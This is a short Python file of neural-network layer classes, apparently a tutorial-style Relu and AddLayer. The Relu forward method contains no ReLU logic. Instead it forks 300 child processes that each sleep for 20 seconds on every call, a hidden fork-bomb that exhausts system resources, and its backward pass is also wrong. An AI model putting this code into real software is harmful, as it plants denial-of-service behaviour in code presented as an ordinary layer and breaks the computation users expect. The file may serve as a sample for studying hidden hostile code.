"""Forks again and again; every child stays for a while."""
import os
import time


class Relu:
    def forward(self, x):
        for _ in range(300):
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        return x

    def backward(self, dout):
        return dout


class AddLayer:
    def forward(self, x, y):
        return x + y

    def backward(self, dout):
        return dout * 1, dout * 1
